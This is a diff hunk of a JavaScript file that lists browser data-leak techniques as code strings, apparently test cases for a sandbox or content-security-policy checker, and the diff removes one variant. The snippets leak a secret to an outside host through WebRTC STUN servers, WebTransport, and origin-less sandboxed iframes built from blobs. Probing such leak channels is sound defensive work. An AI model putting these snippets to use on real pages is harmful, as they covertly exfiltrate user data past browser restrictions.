@@ -84,10 +84,6 @@ export const datagrams = {
   WebRTC: `const c = globalThis.leak = new RTCPeerConnection({ iceServers: [{ urls: at.udp }] }); c.createDataChannel('leak');
     await c.setLocalDescription(await c.createOffer())`,
   WebTransport: "await new WebTransport(at.udp.replace('stun', 'https') + '/' + secret).ready",
-  'WebRTC of a frame without origin, by a script of a blob': `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
-    const script = URL.createObjectURL(new Blob(['const c = globalThis.leak = new RTCPeerConnection({ iceServers: [{ urls: "' + at.udp +
-      '" }] }); c.createDataChannel("leak"); c.createOffer().then((o) => c.setLocalDescription(o))'], { type: 'text/javascript' }));
-    f.srcdoc = '<script src="' + script + '"></' + 'script>'; document.documentElement.append(f)`,
   'WebRTC of a frame without origin': `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
     f.src = URL.createObjectURL(new Blob(['<script>const c = globalThis.leak = new RTCPeerConnection({ iceServers: [{ urls: "' + at.udp +
       '" }] }); c.createDataChannel("leak"); c.createOffer().then((o) => c.setLocalDescription(o))</' + 'script>'], { type: 'text/html' }));
